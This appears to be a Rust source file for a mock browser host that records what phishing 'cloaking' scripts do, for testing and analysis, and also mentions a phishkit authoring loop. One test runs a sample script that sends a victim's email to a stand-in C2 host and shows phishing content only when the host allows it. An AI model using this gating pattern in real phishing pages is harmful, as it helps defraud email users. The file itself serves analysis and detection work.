//! Ready-made [`Host`] implementations.
//!
//! [`RecordingHost`] is the workhorse: it exposes the browser-like global
//! surface cloaking scripts touch (`navigator`, `console`, `document`,
//! `location`, `screen`, `Intl`, `fetch`, `atob`/`btoa`, timers,
//! `debugger`) backed by a configurable environment map, and records every
//! observable action for assertions. The real browser in `cb-browser`
//! implements [`Host`] directly; this one is for tests, the phishkit
//! authoring loop, and static analysis of captured scripts.

use crate::interp::{Host, ScriptError};
use crate::value::Value;
use std::collections::HashMap;

/// Base64 (standard alphabet) — local minimal codec so the script crate
/// stays dependency-free.
fn b64_encode(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            chunk.get(1).copied().unwrap_or(0),
            chunk.get(2).copied().unwrap_or(0),
        ];
        let t = ((b[0] as u32) << 16) | ((b[1] as u32) << 8) | b[2] as u32;
        out.push(A[(t >> 18) as usize & 63] as char);
        out.push(A[(t >> 12) as usize & 63] as char);
        out.push(if chunk.len() > 1 {
            A[(t >> 6) as usize & 63] as char
        } else {
            '='
        });
        out.push(if chunk.len() > 2 {
            A[t as usize & 63] as char
        } else {
            '='
        });
    }
    out
}

fn b64_decode(text: &str) -> Option<Vec<u8>> {
    let val = |c: u8| -> Option<u8> {
        match c {
            b'A'..=b'Z' => Some(c - b'A'),
            b'a'..=b'z' => Some(c - b'a' + 26),
            b'0'..=b'9' => Some(c - b'0' + 52),
            b'+' => Some(62),
            b'/' => Some(63),
            _ => None,
        }
    };
    let clean: Vec<u8> = text.bytes().filter(|b| !b.is_ascii_whitespace()).collect();
    let mut out = Vec::new();
    for chunk in clean.chunks(4) {
        if chunk.len() < 2 {
            return None;
        }
        let pad = chunk.iter().filter(|&&c| c == b'=').count();
        let mut t = 0u32;
        for (i, &c) in chunk.iter().enumerate() {
            let v = if c == b'=' { 0 } else { val(c)? };
            t |= (v as u32) << (18 - 6 * i);
        }
        out.push((t >> 16) as u8);
        if pad < 2 && chunk.len() > 2 {
            out.push((t >> 8) as u8);
        }
        if pad == 0 && chunk.len() > 3 {
            out.push(t as u8);
        }
    }
    Some(out)
}

/// A recording, configurable host.
#[derive(Debug, Default)]
pub struct RecordingHost {
    /// `"object.prop"` → value environment.
    env: HashMap<String, Value>,
    /// Canned `fetch` responses: url → body.
    responses: HashMap<String, String>,
    console: Vec<String>,
    writes: Vec<String>,
    fetches: Vec<(String, String)>,
    prop_writes: Vec<(String, String, String)>,
    debugger_hits: usize,
    timers: Vec<f64>,
    navigations: Vec<String>,
    clock: f64,
}

impl RecordingHost {
    /// A host with an empty environment (all properties default to
    /// [`Value::Null`] rather than erroring, as real browsers rarely throw
    /// on unknown properties).
    pub fn new() -> Self {
        Self::default()
    }

    /// Set an environment value, keyed `"object.prop"`
    /// (e.g. `"navigator.userAgent"`, `"intl.timeZone"`).
    pub fn set_env(&mut self, key: &str, value: Value) -> &mut Self {
        self.env.insert(key.to_string(), value);
        self
    }

    /// Provide a canned response body for a `fetch(url, ..)` call.
    pub fn set_response(&mut self, url: &str, body: &str) -> &mut Self {
        self.responses.insert(url.to_string(), body.to_string());
        self
    }

    /// Lines printed through `console.log/warn/error`.
    pub fn console_lines(&self) -> Vec<String> {
        self.console.clone()
    }

    /// Content passed to `document.write`.
    pub fn writes(&self) -> Vec<String> {
        self.writes.clone()
    }

    /// `(url, body)` of every `fetch`.
    pub fn fetches(&self) -> Vec<(String, String)> {
        self.fetches.clone()
    }

    /// `(object, prop, value-as-string)` of every property write.
    pub fn prop_writes(&self) -> Vec<(String, String, String)> {
        self.prop_writes.clone()
    }

    /// Number of `debugger;` statements executed.
    pub fn debugger_hits(&self) -> usize {
        self.debugger_hits
    }

    /// Delays (ms) requested via `setTimeout`/`setInterval`/`sleep`.
    pub fn timer_delays(&self) -> Vec<f64> {
        self.timers.clone()
    }

    /// URLs assigned to `location.href` / passed to `redirect`.
    pub fn navigations(&self) -> Vec<String> {
        self.navigations.clone()
    }
}

const GLOBALS: &[&str] = &[
    "navigator",
    "console",
    "document",
    "window",
    "location",
    "screen",
    "Intl",
    "Date",
];

impl Host for RecordingHost {
    fn get_prop(&mut self, object: &str, prop: &str) -> Result<Value, ScriptError> {
        let key = format!("{object}.{prop}");
        if let Some(v) = self.env.get(&key) {
            return Ok(v.clone());
        }
        // Browser-realistic defaults.
        Ok(match key.as_str() {
            "navigator.webdriver" => Value::Bool(false),
            "navigator.userAgent" => Value::from("Mozilla/5.0"),
            "navigator.language" | "navigator.userLanguage" => Value::from("en-US"),
            "screen.width" => Value::Num(1920.0),
            "screen.height" => Value::Num(1080.0),
            "location.href" => Value::from("about:blank"),
            "document.referrer" => Value::from(""),
            _ => Value::Null,
        })
    }

    fn set_prop(&mut self, object: &str, prop: &str, value: Value) -> Result<(), ScriptError> {
        if object == "location" && prop == "href" {
            self.navigations.push(value.as_str());
        }
        self.prop_writes
            .push((object.to_string(), prop.to_string(), value.as_str()));
        self.env.insert(format!("{object}.{prop}"), value);
        Ok(())
    }

    fn call_method(
        &mut self,
        object: &str,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ScriptError> {
        match (object, method) {
            ("console", "log")
            | ("console", "warn")
            | ("console", "error")
            | ("console", "info")
            | ("console", "debug") => {
                let line = args.iter().map(Value::as_str).collect::<Vec<_>>().join(" ");
                self.console.push(line);
                Ok(Value::Null)
            }
            ("document", "write") => {
                self.writes
                    .push(args.first().map(Value::as_str).unwrap_or_default());
                Ok(Value::Null)
            }
            ("document", "addEventListener") | ("window", "addEventListener") => Ok(Value::Null),
            ("document", "getElementById") | ("document", "querySelector") => {
                Ok(Value::Ref(format!(
                    "element:{}",
                    args.first().map(Value::as_str).unwrap_or_default()
                )))
            }
            ("Intl", "DateTimeFormat") => Ok(Value::Ref("intlDTF".to_string())),
            ("intlDTF", "resolvedOptions") => Ok(Value::Ref("intl".to_string())),
            ("Date", "now") => {
                self.clock += 1.0;
                Ok(Value::Num(self.clock))
            }
            (obj, m) if obj.starts_with("element:") => {
                // element methods are inert in the recording host
                let _ = m;
                Ok(Value::Null)
            }
            (obj, m) => Err(ScriptError::UnknownFunction(format!("{obj}.{m}"))),
        }
    }

    fn call_global(&mut self, func: &str, args: &[Value]) -> Result<Value, ScriptError> {
        match func {
            "fetch" => {
                let url = args.first().map(Value::as_str).unwrap_or_default();
                let body = args.get(1).map(Value::as_str).unwrap_or_default();
                let response = self.responses.get(&url).cloned().unwrap_or_default();
                self.fetches.push((url, body));
                Ok(Value::Str(response))
            }
            "redirect" => {
                let url = args.first().map(Value::as_str).unwrap_or_default();
                self.navigations.push(url);
                Ok(Value::Null)
            }
            "atob" => {
                let input = args.first().map(Value::as_str).unwrap_or_default();
                let decoded = b64_decode(&input)
                    .ok_or_else(|| ScriptError::TypeError("atob: invalid base64".to_string()))?;
                Ok(Value::Str(String::from_utf8_lossy(&decoded).into_owned()))
            }
            "btoa" => {
                let input = args.first().map(Value::as_str).unwrap_or_default();
                Ok(Value::Str(b64_encode(input.as_bytes())))
            }
            "setTimeout" | "setInterval" | "sleep" => {
                // The delay is the *last* numeric arg in JS signatures.
                let delay = args.iter().rev().find_map(Value::as_num).unwrap_or(0.0);
                self.timers.push(delay);
                Ok(Value::Num(self.timers.len() as f64))
            }
            "parseInt" | "Number" => Ok(args
                .first()
                .and_then(Value::as_num)
                .map(|n| Value::Num(n.trunc()))
                .unwrap_or(Value::Null)),
            "String" => Ok(Value::Str(
                args.first().map(Value::as_str).unwrap_or_default(),
            )),
            "encodeURIComponent" => {
                let input = args.first().map(Value::as_str).unwrap_or_default();
                let mut out = String::new();
                for b in input.bytes() {
                    if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
                        out.push(b as char);
                    } else {
                        out.push_str(&format!("%{b:02X}"));
                    }
                }
                Ok(Value::Str(out))
            }
            "isEmailValid" => {
                // The victim-check regex the paper saw, as a host helper.
                let s = args.first().map(Value::as_str).unwrap_or_default();
                let ok = s.split_once('@').map(|(l, d)| {
                    !l.is_empty() && d.contains('.') && !d.starts_with('.') && !d.ends_with('.')
                });
                Ok(Value::Bool(ok.unwrap_or(false)))
            }
            other => Err(ScriptError::UnknownFunction(other.to_string())),
        }
    }

    fn global(&mut self, name: &str) -> Option<Value> {
        if GLOBALS.contains(&name) {
            Some(Value::Ref(name.to_string()))
        } else {
            None
        }
    }

    fn debugger_hit(&mut self) {
        self.debugger_hits += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{run, Script};

    #[test]
    fn defaults_are_browser_like() {
        let mut h = RecordingHost::new();
        let s = Script::parse(
            "console.log(navigator.language); console.log(screen.width); console.log(navigator.webdriver);",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["en-US", "1920", "false"]);
    }

    #[test]
    fn canned_fetch_response() {
        let mut h = RecordingHost::new();
        h.set_response("https://c2.example/check", "allow");
        let s = Script::parse(
            "var r = fetch('https://c2.example/check', 'victim@corp.example'); if (r == 'allow') { document.write('phish'); }",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.writes(), ["phish"]);
    }

    #[test]
    fn location_navigation_recorded() {
        let mut h = RecordingHost::new();
        let s = Script::parse("location.href = 'https://landing.example/';").unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.navigations(), ["https://landing.example/"]);
    }

    #[test]
    fn timers_record_delays() {
        let mut h = RecordingHost::new();
        let s = Script::parse("setTimeout('cb', 4000); setInterval('cb', 1000);").unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.timer_delays(), [4000.0, 1000.0]);
    }

    #[test]
    fn b64_helpers_round_trip() {
        for case in ["", "a", "ab", "abc", "hello world", "ünïcode"] {
            let enc = b64_encode(case.as_bytes());
            assert_eq!(b64_decode(&enc).unwrap(), case.as_bytes(), "{case}");
        }
        assert!(b64_decode("!!!").is_none());
    }

    #[test]
    fn email_validation_helper() {
        let mut h = RecordingHost::new();
        let s = Script::parse(
            "console.log(isEmailValid('a@b.example')); console.log(isEmailValid('junk'));",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["true", "false"]);
    }

    #[test]
    fn date_now_is_monotonic() {
        let mut h = RecordingHost::new();
        let s = Script::parse(
            "var t0 = Date.now(); debugger; var t1 = Date.now(); console.log(t1 > t0);",
        )
        .unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["true"]);
        assert_eq!(h.debugger_hits(), 1);
    }

    #[test]
    fn encode_uri_component() {
        let mut h = RecordingHost::new();
        let s = Script::parse("console.log(encodeURIComponent('a b@c.example/x'));").unwrap();
        run(&s, &mut h).unwrap();
        assert_eq!(h.console_lines(), ["a%20b%40c.example%2Fx"]);
    }

    #[test]
    fn unknown_global_function_errors() {
        let mut h = RecordingHost::new();
        let s = Script::parse("explode();").unwrap();
        assert!(matches!(
            run(&s, &mut h),
            Err(ScriptError::UnknownFunction(_))
        ));
    }
}
